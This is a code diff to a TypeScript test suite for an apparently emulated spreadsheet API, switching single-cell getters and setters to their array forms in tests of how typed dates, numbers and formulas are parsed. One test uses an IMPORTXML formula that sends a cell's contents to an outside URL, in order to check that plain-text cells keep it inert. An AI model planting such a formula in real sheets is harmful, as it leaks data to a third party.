@@ -22,7 +22,7 @@ function typed(locale: string, text: string, timeZone = 'Europe/Moscow') {
   const range = sheet.getRange('A1');
   range.setValue(text);
   const value = range.getValue();
-  const shown = range.getDisplayValue();
+  const shown = range.getDisplayValues()[0][0];
   if (Object.prototype.toString.call(value) !== '[object Date]') return { value, shown };
   const wall = new Intl.DateTimeFormat('sv-SE', {
     timeZone,
@@ -33,7 +33,7 @@ function typed(locale: string, text: string, timeZone = 'Europe/Moscow') {
     minute: '2-digit',
     second: '2-digit',
   }).format(value as Date);
-  return { date: wall, shown, format: range.getNumberFormat() };
+  return { date: wall, shown, format: range.getNumberFormats()[0][0] };
 }
 
 describe('dates typed into a cell, by the spreadsheet locale', () => {
@@ -65,8 +65,8 @@ describe('dates typed into a cell, by the spreadsheet locale', () => {
   it('gives a typed date a date format only when the cell has none of its own', () => {
     const { sheet } = open();
     const range = sheet.getRange('A1');
-    range.setNumberFormat('yyyy-mm-dd').setValue('07.12.2026');
-    expect(range.getDisplayValue()).toBe('2026-12-07');
+    range.setNumberFormats([['yyyy-mm-dd']]).setValue('07.12.2026');
+    expect(range.getDisplayValues()[0][0]).toBe('2026-12-07');
   });
 
   it('keeps date-like text in a plain-text cell or behind an apostrophe', () => {
@@ -103,7 +103,10 @@ describe('numbers, booleans and formulas typed into a cell', () => {
     const { sheet, ws } = open();
     const name = '=IMPORTXML("http://x"&B12)';
     sheet.getRange('A1').setValue(name);
-    sheet.getRange('A2').setNumberFormat('@').setValue(name);
+    sheet
+      .getRange('A2')
+      .setNumberFormats([['@']])
+      .setValue(name);
     expect(ws.getCell('A1').formula).toBe('IMPORTXML("http://x"&B12)');
     expect(sheet.getRange('A2').getValue()).toBe(name);
   });
